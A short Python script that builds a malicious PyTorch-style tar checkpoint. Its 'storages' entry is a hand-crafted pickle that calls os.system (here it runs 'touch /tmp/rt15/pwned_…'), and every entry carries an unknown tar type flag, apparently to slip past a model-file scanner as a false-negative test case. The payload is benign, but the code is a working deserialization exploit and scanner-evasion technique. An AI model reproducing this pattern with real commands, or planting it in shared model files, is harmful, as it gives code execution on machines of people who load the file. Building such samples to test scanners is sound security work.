import tarfile, io
def evil(tag): return b"\x80\x02cos\nsystem\n(S'touch /tmp/rt15/pwned_%s'\ntR." % tag.encode()
out = io.BytesIO()
with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as t:
    for name, data in [("storages", evil("torch_tar_type")), ("tensors", b"\x80\x02K\x00."), ("pickle", b"\x80\x02}q\x00.")]:
        ti = tarfile.TarInfo(name); ti.size = len(data); ti.type = b"Z"   # unknown type: tarfile treats it as a regular file
        t.addfile(ti, io.BytesIO(data))
open("fn_torch_tar_unknown_type.tar", "wb").write(out.getvalue())
